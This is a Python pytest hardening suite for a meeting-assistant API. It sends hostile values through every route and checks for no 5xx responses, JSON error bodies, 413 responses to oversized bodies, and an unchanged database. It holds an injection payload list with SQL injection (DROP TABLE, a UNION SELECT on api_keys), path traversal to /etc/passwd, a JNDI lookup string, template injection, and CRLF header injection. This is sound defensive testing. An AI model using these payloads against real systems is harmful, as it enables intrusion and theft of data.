"""Hostile values in every path and query parameter, and oversized bodies.

Every parameter of every route (found by enumerating the app, as the tenant-isolation test
does) gets SQL-injection-shaped, path-traversal-shaped, NUL, very long and unicode values, sent
percent-encoded and, where the request line allows it, raw. The API must never answer 5xx, every
4xx must carry the JSON error body, and the database must hold exactly what it held before.

Bodies of several MB to the POST routes and to Zoom's webhook receiver must get a quick 413 in
the same JSON shape from :class:`meetmind.api.limits.BodySizeLimitMiddleware` (added here when
the app does not wire it yet), whether the size is declared or the body is streamed chunked.
"""

from __future__ import annotations

import asyncio
import json
import secrets
import time
from collections.abc import AsyncIterator, Iterator
from contextlib import suppress
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from fastapi import FastAPI
from sqlalchemy import inspect, text
from websockets.asyncio.client import connect as ws_connect
from websockets.exceptions import ConnectionClosed, InvalidStatus, InvalidURI

from meetmind.api.app import create_app
from meetmind.api.limits import DEFAULT_MAX_BODY_BYTES, BodySizeLimitMiddleware
from meetmind.domain.cursor import encode_cursor
from meetmind.domain.models import NewTranscriptTurn
from meetmind.sdk import MeetMind
from meetmind.serving import serve_app
from meetmind.store.db import Database
from tests.hardening.test_tenant_isolation import (
    PUBLIC_ROUTES,
    SAMPLE_BODIES,
    ApiRoute,
    api_routes,
    enum_values,
)

HOSTILE: list[str] = [
    "' OR 1=1 --",
    '" OR ""="',
    "1; DROP TABLE sessions; --",
    "ses_x' UNION SELECT id, tenant_id, 1, 1 FROM api_keys --",
    "%' OR tenant_id LIKE '%",
    "../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "\x00",
    "ses_\x00' OR 1=1 --",
    "%00",
    "A" * 10_000,
    "\u202egnp.exe\u202c",
    "\u200f\u05e9\u05dc\u05d5\u05dd \U0001f600\U0001f4a5" * 40,
    "\ud7ff\ufffd\U0010ffff",
    "${jndi:ldap://example.com/a}",
    "{{7*7}}",
    "-1",
    "99999999999999999999999999999999",
    "1e309",
    "NaN",
    " ",
    "\r\nX-Injected: 1",
]
"""Values every parameter gets."""

WS_MAX_LINE = 8000
"""Longer websocket handshakes are not sent: uvicorn's websockets-sansio protocol never writes
the 414 that the websockets parser prepares for a request line over 8 KiB, so the client waits
for its own timeout (a server matter; the app is never called)."""

RAW_SAFE = {chr(c) for c in range(0x21, 0x7F)} - {"?", "#"}


def crafted_cursors() -> list[str]:
    """Cursors shaped like ours, with hostile contents (they are only base64 of JSON)."""
    return [
        encode_cursor("sessions", ["' OR 1=1 --"]),
        encode_cursor("sessions", ["ses_\x00"]),
        encode_cursor("sessions", ["x" * 10_000]),
        encode_cursor("transcript", [2**70, 1]),
        encode_cursor("transcript", [-(2**70), 2**70]),
        encode_cursor("transcript", [0, 2**63]),
        encode_cursor("sessions", [2**70]),
    ]


def encodings(value: str) -> Iterator[str]:
    """The value percent-encoded, and raw when a request line can carry it as it is."""
    yield quote(value, safe="")
    if value and set(value) <= RAW_SAFE and len(value) < 2000:
        yield value


@dataclass
class Api:
    """The API served with the body limit, a tenant's key and its objects."""

    url: str
    key: str
    session_id: str
    endpoint_id: str
    meetmind: MeetMind
    app: FastAPI
    body_limit: int


def with_body_limit(app: FastAPI) -> int:
    """The app's body limit; the middleware is added (1 MiB) unless create_app wires it."""
    for middleware in app.user_middleware:
        if getattr(middleware, "cls", None) is BodySizeLimitMiddleware:
            limit = middleware.kwargs.get("max_body_bytes", DEFAULT_MAX_BODY_BYTES)
            assert isinstance(limit, int)
            return limit
    app.add_middleware(BodySizeLimitMiddleware, max_body_bytes=DEFAULT_MAX_BODY_BYTES)
    return DEFAULT_MAX_BODY_BYTES


@pytest.fixture
async def api(meetmind: MeetMind) -> AsyncIterator[Api]:
    tenant = await meetmind.create_tenant(f"hostile-{secrets.token_hex(4)}")
    key = await meetmind.create_api_key(tenant.id)
    scope = meetmind.tenant(tenant.id)
    session = await scope.create_session(meeting_id="81234567890")
    await scope.append_transcript(
        session.id, [NewTranscriptTurn(idempotency_key="t1", text="hello", start_ms=0, end_ms=5)]
    )
    endpoint = await scope.create_webhook("https://app.example.com/hooks", ["*"])
    app = create_app(meetmind, manage_lifecycle=False)
    limit = with_body_limit(app)
    async with serve_app(app) as url:
        yield Api(url, key.secret, session.id, endpoint.id, meetmind, app, limit)


async def database_contents(database: Database) -> dict[str, list[str]]:
    """Every row of every table, as sorted text."""

    def names(connection: Any) -> list[str]:
        return list(inspect(connection).get_table_names())

    async with database.transaction() as db:
        tables = await db.run_sync(lambda session: names(session.connection()))
        dump: dict[str, list[str]] = {}
        for table in sorted(tables):
            rows = await db.execute(text(f'SELECT * FROM "{table}"'))  # noqa: S608 - schema names
            dump[table] = sorted(repr(tuple(row)) for row in rows.all())
    return dump


def assert_json_error(status: int, headers: httpx.Headers, body: bytes, label: str) -> None:
    assert headers.get("content-type", "").startswith("application/json"), (
        f"{label}: {status} without a JSON body: {body[:200]!r}"
    )
    data = json.loads(body)
    assert set(data) == {"error"}, f"{label}: {data}"
    assert {"code", "message", "details"} <= set(data["error"]), f"{label}: {data}"


async def send(
    http: httpx.AsyncClient, method: str, target: str, body: Any = None
) -> tuple[int, httpx.Headers, bytes]:
    """Send ``target`` as the request line's target, exactly as given (no normalisation)."""
    async with http.stream(
        method, "/", json=body, extensions={"target": target.encode("ascii")}
    ) as answer:
        content = b""
        if not answer.headers.get("content-type", "").startswith("text/event-stream"):
            content = await answer.aread()
        return answer.status_code, answer.headers, content


def check(status: int, headers: httpx.Headers, body: bytes, label: str) -> None:
    assert status < 500, f"{label}: {status} {body[:300]!r}"
    if 400 <= status < 500:
        assert_json_error(status, headers, body, label)


def query_params(app: FastAPI, route: ApiRoute) -> list[str]:
    """The route's query parameters, from the OpenAPI schema (websockets: from the endpoint)."""
    if route.kind == "websocket":
        return ["after", "access_token"]
    operation = app.openapi()["paths"].get(route.path, {}).get((route.method or "").lower(), {})
    return [p["name"] for p in operation.get("parameters", []) if p.get("in") == "query"]


def baseline(api: Api, route: ApiRoute) -> dict[str, str]:
    """Valid values for the route's path parameters (the tenant's own objects)."""
    own = {"session_id": api.session_id, "endpoint_id": api.endpoint_id}
    values: dict[str, str] = {}
    for name in route.params:
        if name in own:
            values[name] = own[name]
        else:
            choices = enum_values(api.app.openapi(), route, name)
            values[name] = choices[0] if choices else "x"
    return values


def build(route: ApiRoute, path_values: dict[str, str], query: str = "") -> str:
    path = route.path
    for name, value in path_values.items():
        path = path.replace("{" + name + "}", value)
    return path + (f"?{query}" if query else "")


async def call_websocket(url: str, key: str) -> str:
    """What the handshake came to; raises on anything that shows a server error."""
    try:
        async with ws_connect(
            url, additional_headers={"Authorization": f"Bearer {key}"}, open_timeout=10
        ) as ws:
            with suppress(TimeoutError):
                await asyncio.wait_for(ws.recv(), 0.05)
            return "open"
    except InvalidStatus as exc:
        assert exc.response.status_code < 500, f"{url[:200]}: HTTP {exc.response.status_code}"
        return f"http {exc.response.status_code}"
    except ConnectionClosed as exc:
        code = exc.rcvd.code if exc.rcvd is not None else 1006
        assert code != 1011, f"{url[:200]}: closed with 1011 (internal error)"
        return f"close {code}"
    except InvalidURI:
        return "not a URI"


async def test_hostile_path_and_query_values(api: Api) -> None:
    before = await database_contents(api.meetmind.database)
    routes = [
        r
        for r in api_routes(api.app)
        if r.kind in {"http", "websocket"} and r.path not in {"/api/v1/zoom/rtms/webhook"}
    ]
    sent = 0
    headers = {"Authorization": f"Bearer {api.key}"}
    async with httpx.AsyncClient(base_url=api.url, headers=headers, timeout=15) as http:
        for route in routes:
            slots = [("path", name) for name in route.params] + [
                ("query", name) for name in query_params(api.app, route)
            ]
            if route.path in PUBLIC_ROUTES and not slots:
                continue
            values = HOSTILE + (crafted_cursors() if route.kind == "http" else [])
            for where, name in slots:
                for value in values:
                    for encoded in encodings(value):
                        path_values = {
                            k: quote(v, safe="") for k, v in baseline(api, route).items()
                        }
                        if where == "path":
                            path_values[name] = encoded
                            target = build(route, path_values)
                        else:
                            target = build(route, path_values, f"{name}={encoded}")
                        label = f"{route} [{where} {name}={value[:40]!r}] {target[:120]}"
                        if route.kind == "websocket":
                            if len(target) > WS_MAX_LINE:
                                continue
                            ws_url = api.url.replace("http", "ws", 1) + target
                            await call_websocket(ws_url, api.key)
                        else:
                            assert route.method is not None
                            body = SAMPLE_BODIES.get((route.method, route.path))
                            check(*await send(http, route.method, target, body), label)
                        sent += 1
        # Repeated and oddly mixed parameters, and traversal against the static files.
        for target in [
            "/api/v1/sdk/sessions?status=live&status=' OR 1=1 --".replace(" ", "%20"),
            "/api/v1/sdk/sessions?limit=1&limit=-1&limit=%00",
            f"/api/v1/sdk/sessions/{api.session_id}/transcript?after=&after=%00&limit=10",
            "/api/v1/sdk/sessions/../../../etc/passwd",
            "/api/v1/sdk/sessions/..%2f..%2f..%2fetc%2fpasswd",
            "/static/../../../../etc/passwd",
            "/static/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
            "/static/..%2f..%2f..%2f..%2fpyproject.toml",
            "/static/%00",
            "/static/app.js%00.png",
            "/static/" + "a" * 5000,
            "/%2e%2e/%2e%2e/etc/passwd",
            "/api/v1/zoom/oauth/callback?code=%00&state=%00",
            "/api/v1/zoom/oauth/callback?state=' OR 1=1 --".replace(" ", "%20"),
        ]:
            status, answer_headers, content = await send(http, "GET", target)
            check(status, answer_headers, content, target)
            assert b"root:" not in content, target
            assert b"[project]" not in content, target
            sent += 1
    assert sent > 500, sent
    assert await database_contents(api.meetmind.database) == before


async def test_hostile_api_keys_are_refused(api: Api) -> None:
    async with httpx.AsyncClient(base_url=api.url, timeout=15) as http:
        for value in HOSTILE + ["mm_' OR 1=1 --", "mm_" + "A" * 10_000]:
            key = value.encode("utf-8", "surrogatepass")
            if any(c in key for c in b"\r\n\x00") or key != key.strip():
                continue  # not a legal header value: the client refuses to send it
            answer = await http.get(
                "/api/v1/sdk/sessions", headers={b"Authorization": b"Bearer " + key}
            )
            assert answer.status_code == 401, (value[:40], answer.status_code)
            check(answer.status_code, answer.headers, answer.content, value[:40])
            stream = await http.get(
                f"/api/v1/sdk/sessions/{api.session_id}/events",
                params={"access_token": value[:200]},
            )
            check(stream.status_code, stream.headers, stream.content, value[:40])
            assert stream.status_code in (401, 422), (value[:40], stream.status_code)


# ---------------------------------------------------------------------------------------------
# Oversized bodies

BIG = 5 * 1024 * 1024


def big_json(size: int) -> bytes:
    return json.dumps({"meeting_id": "81234567890", "pad": "x" * size}).encode()


async def chunks(data: bytes, size: int = 64 * 1024) -> AsyncIterator[bytes]:
    for start in range(0, len(data), size):
        yield data[start : start + size]


def oversize_targets(api: Api) -> list[str]:
    return [
        "/api/v1/sdk/sessions",
        "/api/v1/sdk/webhooks",
        f"/api/v1/sdk/sessions/{api.session_id}/speak",
        f"/api/v1/sdk/sessions/{api.session_id}/rtms/start",
        "/api/v1/zoom/rtms/webhook",
    ]


async def post_big(http: httpx.AsyncClient, path: str, content: Any) -> httpx.Response:
    """POST a big body; an early 413 may reset the socket while the client is still sending."""
    return await http.post(path, content=content, headers={"content-type": "application/json"})


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
@pytest.mark.parametrize("streamed", [False, True], ids=["content-length", "chunked"])
async def test_oversized_bodies_get_a_quick_413(api: Api, streamed: bool) -> None:
    before = await database_contents(api.meetmind.database)
    data = big_json(BIG)
    headers = {"Authorization": f"Bearer {api.key}"}
    async with httpx.AsyncClient(base_url=api.url, headers=headers, timeout=30) as http:
        for path in oversize_targets(api):
            started = time.monotonic()
            answer = await post_big(http, path, chunks(data) if streamed else data)
            elapsed = time.monotonic() - started
            assert_json_error(answer.status_code, answer.headers, answer.content, path)
            if path == "/api/v1/zoom/rtms/webhook" and streamed:
                # The receiver's own, lower limit (64 KiB) is met first when it reads the stream.
                assert answer.status_code == 400, (path, answer.status_code, answer.text[:300])
                assert answer.json()["error"]["details"]["reason"] == "too_large"
                continue
            assert answer.status_code == 413, (path, answer.status_code, answer.text[:300])
            assert answer.json()["error"]["code"] == "payload_too_large", answer.text
            assert elapsed < 10, (path, elapsed)
        # Just under the limit is not refused for its size.
        fits = big_json(api.body_limit - 1024)
        answer = await post_big(http, "/api/v1/sdk/sessions", fits)
        assert answer.status_code == 422, answer.text[:300]  # the padding field is not allowed
        answer = await post_big(http, "/api/v1/zoom/rtms/webhook", fits)
        assert answer.status_code == 400, answer.text[:300]  # Zoom's own 64 KiB limit
        assert answer.json()["error"]["details"]["reason"] == "too_large"
        # The server is still fine.
        assert (await http.get(f"/api/v1/sdk/sessions/{api.session_id}")).status_code == 200
    assert await database_contents(api.meetmind.database) == before


async def test_the_middleware_alone() -> None:
    """The limit is a constructor argument; declared and streamed sizes are both counted."""
    seen: list[int] = []

    async def echo(scope: Any, receive: Any, send: Any) -> None:
        body = b""
        while True:
            message = await receive()
            body += message.get("body", b"")
            if not message.get("more_body"):
                break
        seen.append(len(body))
        await send({"type": "http.response.start", "status": 200, "headers": []})
        await send({"type": "http.response.body", "body": b"ok"})

    limited = BodySizeLimitMiddleware(echo, max_body_bytes=100)
    transport = httpx.ASGITransport(app=limited)
    async with httpx.AsyncClient(transport=transport, base_url="http://test") as http:
        assert (await http.post("/", content=b"x" * 100)).status_code == 200
        declared = await http.post("/", content=b"x" * 101)
        assert declared.status_code == 413
        assert declared.json()["error"]["code"] == "payload_too_large"
        assert declared.json()["error"]["details"] == {"limit": 100}
        streamed = await http.post("/", content=chunks(b"x" * 300, 50))
        assert streamed.status_code == 413
        assert (await http.get("/")).status_code == 200
    assert seen == [100, 0]
    with pytest.raises(ValueError):
        BodySizeLimitMiddleware(echo, max_body_bytes=-1)


async def test_nul_characters_in_stored_text_are_refused(api: Api) -> None:
    """PostgreSQL refuses NUL in text: the API must answer 422, not fail on the insert."""
    before = await database_contents(api.meetmind.database)
    session = f"/api/v1/sdk/sessions/{api.session_id}"
    cases: list[tuple[str, dict[str, Any]]] = [
        ("/api/v1/sdk/sessions", {"meeting_id": "81234567890", "agent_name": "a\x00b"}),
        ("/api/v1/sdk/sessions", {"meeting_id": "81234567890", "wake_words": ["hey\x00you"]}),
        (
            "/api/v1/sdk/sessions",
            {"meeting_id": "81234567890", "meeting_url": "https://zoom.us/j/81234567890?p=\x00"},
        ),
        ("/api/v1/sdk/webhooks", {"url": "https://app.example.com/\x00"}),
        (f"{session}/speak", {"text": "hello\x00"}),
        (f"{session}/rtms/start", {"participant_user_id": "u\x00"}),
    ]
    headers = {"Authorization": f"Bearer {api.key}"}
    async with httpx.AsyncClient(base_url=api.url, headers=headers, timeout=15) as http:
        for path, body in cases:
            answer = await http.post(path, json=body)
            assert answer.status_code == 422, (path, body, answer.status_code, answer.text[:300])
            assert_json_error(answer.status_code, answer.headers, answer.content, path)
    assert await database_contents(api.meetmind.database) == before


async def open_and_drop(url: str, target: str, headers: dict[str, str]) -> int:
    """Send a request, read the answer's status line, and drop the connection at once."""
    parts = httpx.URL(url)
    reader, writer = await asyncio.open_connection(parts.host, parts.port)
    lines = [f"GET {target} HTTP/1.1", f"Host: {parts.host}:{parts.port}"]
    lines += [f"{name}: {value}" for name, value in headers.items()]
    writer.write(("\r\n".join(lines) + "\r\n\r\n").encode())
    status = await asyncio.wait_for(reader.readline(), 10)
    writer.transport.abort()
    return int(status.split()[1])


async def test_clients_that_leave_at_once_do_not_lock_the_database(api: Api) -> None:
    """A feed client that connects and leaves straight away must not leave a transaction
    behind (on SQLite that kept the write lock: every request then failed after 10 s)."""
    session = f"/api/v1/sdk/sessions/{api.session_id}"
    auth = {"Authorization": f"Bearer {api.key}"}
    upgrade = {
        "Upgrade": "websocket",
        "Connection": "Upgrade",
        "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
        "Sec-WebSocket-Version": "13",
    }
    scope = api.meetmind.tenant((await api.meetmind.authenticate(api.key)).tenant_id)
    for _ in range(10):
        assert await open_and_drop(api.url, f"{session}/events/ws", auth | upgrade) == 101
        assert await open_and_drop(api.url, f"{session}/events", auth) == 200
        started = time.monotonic()
        async with asyncio.timeout(5):
            await scope.create_session(meeting_id="81234567890")
        assert time.monotonic() - started < 2
